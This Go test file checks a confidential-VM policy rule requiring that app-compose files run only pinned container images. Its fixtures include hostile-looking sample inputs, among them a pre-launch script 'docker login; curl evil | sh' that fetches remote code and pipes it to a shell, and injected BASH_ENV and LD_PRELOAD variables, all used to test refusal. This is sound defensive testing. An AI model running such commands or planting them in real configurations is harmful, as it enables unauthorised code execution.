package policy

import (
	"crypto/sha256"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cvmgate/cvmgate/verify/compose"
)

// pinnedFile is a docker-compose file whose one image is pinned, as a
// JSON string.
const pinnedFile = `"services:\n  web:\n    image: nginx@sha256:0000000000000000000000000000000000000000000000000000000000000000\n"`

// withPinned is an app-compose.json running pinnedFile with the
// docker-compose runner and the members extra (",..." or "").
func withPinned(extra string) string {
	return `{"name":"demo","runner":"docker-compose","docker_compose_file":` + pinnedFile + extra + `}`
}

// allowed is an allowed_scripts entry for kind and text.
func allowed(kind compose.ScriptKind, text string) AllowedScript {
	h := sha256.Sum256([]byte(text))
	return AllowedScript{Kind: kind, SHA256: h[:]}
}

// TestCheckPinnedCode: require_pinned_images refuses an app compose that
// runs code besides its pinned images (scripts, another runner, content
// from outside the compose, code from the environment) unless the policy
// lists that exact script.
func TestCheckPinnedCode(t *testing.T) {
	tests := []struct {
		name    string
		compose string
		allowed []AllowedScript
		found   []string // each require_pinned_images violation; none: it passes
	}{
		{name: "pinned images only", compose: withPinned("")},
		{name: "pre_launch_script", compose: withPinned(`,"pre_launch_script":"docker run evil"`),
			found: []string{"pre_launch_script with sha256 " + sha256Hex("docker run evil") + ", not in app.allowed_scripts"}},
		{name: "empty pre_launch_script", compose: withPinned(`,"pre_launch_script":""`),
			found: []string{"pre_launch_script with sha256 " + sha256Hex("")}},
		{name: "init_script", compose: withPinned(`,"init_script":"echo x > docker-compose.yaml"`),
			found: []string{"init_script with sha256 " + sha256Hex("echo x > docker-compose.yaml")}},
		{name: "bash runner", compose: `{"runner":"bash","bash_script":"docker run evil","docker_compose_file":` + pinnedFile + `}`,
			found: []string{"bash_script with sha256 " + sha256Hex("docker run evil")}},
		{name: "nerdctl runner", compose: `{"runner":"nerdctl-compose","docker_compose_file":` + pinnedFile + `}`,
			found: []string{`runner "nerdctl-compose", not docker-compose`}},
		{name: "no runner", compose: `{"docker_compose_file":` + pinnedFile + `}`, found: []string{"no runner in the app compose"}},
		{name: "include", compose: `{"runner":"docker-compose","docker_compose_file":"include: [evil.yaml]\nservices:\n  web:\n    image: nginx@sha256:` + zeros64 + `\n"}`,
			found: []string{"include at line 1 of the docker-compose file"}},
		{name: "extends another file", compose: `{"runner":"docker-compose","docker_compose_file":"services:\n  web:\n    image: nginx@sha256:` + zeros64 + `\n    extends: {file: b.yaml, service: b}\n"}`,
			found: []string{"extends.file at line 4"}},
		{name: "build beside a pinned image", compose: `{"runner":"docker-compose","docker_compose_file":"services:\n  web:\n    image: nginx@sha256:` + zeros64 + `\n    build: .\n"}`,
			found: []string{`service "web" built in the CVM (build:)`}},
		{name: "reset tag", compose: `{"runner":"docker-compose","docker_compose_file":"services:\n  web:\n    image: !reset nginx@sha256:` + zeros64 + `\n"}`,
			found: []string{"tag !reset at line 3"}},
		{name: "BASH_ENV from the environment", compose: withPinned(`,"allowed_envs":["API_KEY","BASH_ENV"]`),
			found: []string{`allowed_envs "BASH_ENV"`}},
		{name: "pre_launch_script listed", compose: withPinned(`,"pre_launch_script":"docker login"`),
			allowed: []AllowedScript{allowed(compose.ScriptPreLaunch, "docker login")}},
		{name: "another text refused", compose: withPinned(`,"pre_launch_script":"docker login; curl evil | sh"`),
			allowed: []AllowedScript{allowed(compose.ScriptPreLaunch, "docker login")},
			found:   []string{"pre_launch_script with sha256 " + sha256Hex("docker login; curl evil | sh")}},
		{name: "same text of another kind refused", compose: withPinned(`,"init_script":"docker login"`),
			allowed: []AllowedScript{allowed(compose.ScriptPreLaunch, "docker login")},
			found:   []string{"init_script with sha256 " + sha256Hex("docker login")}},
		{name: "one init script of two listed", compose: withPinned(`,"init_script":["a","b"]`),
			allowed: []AllowedScript{allowed(compose.ScriptInit, "b")},
			found:   []string{"init_script with sha256 " + sha256Hex("a")}},
		{name: "bash runner with its script listed", compose: `{"runner":"bash","bash_script":"exec my-app"}`,
			allowed: []AllowedScript{allowed(compose.ScriptBash, "exec my-app")}},
		{name: "every reason at once", compose: `{"runner":"bash","bash_script":"x","pre_launch_script":"y","allowed_envs":["LD_PRELOAD"],` +
			`"docker_compose_file":"include: [a]\nservices:\n  web:\n    image: nginx:latest\n"}`,
			found: []string{"pre_launch_script with", "bash_script with", "include at line 1", `allowed_envs "LD_PRELOAD"`, `service "web" with image "nginx:latest"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := mustParse(t, testPolicyYAML)
			p.App.ComposeHashes = nil // the app id still checks the app
			p.App.AllowedScripts = tt.allowed
			require.NoError(t, p.Validate())
			r := testReport()
			r.Dstack.Compose = mustParseCompose(tt.compose)
			err := p.Check(r)
			if tt.found == nil {
				require.NoError(t, err)
				return
			}
			want := make([]string, len(tt.found))
			for i := range want {
				want[i] = "app.require_pinned_images"
			}
			requireViolations(t, err, want...)
			for i, v := range Violations(err) {
				assert.Contains(t, v.Found, tt.found[i])
				assert.Equal(t, pinnedExpected, v.Expected)
			}
		})
	}
}

const zeros64 = "0000000000000000000000000000000000000000000000000000000000000000"

func sha256Hex(s string) string {
	h := sha256.Sum256([]byte(s))
	return Hex(h[:]).String()
}
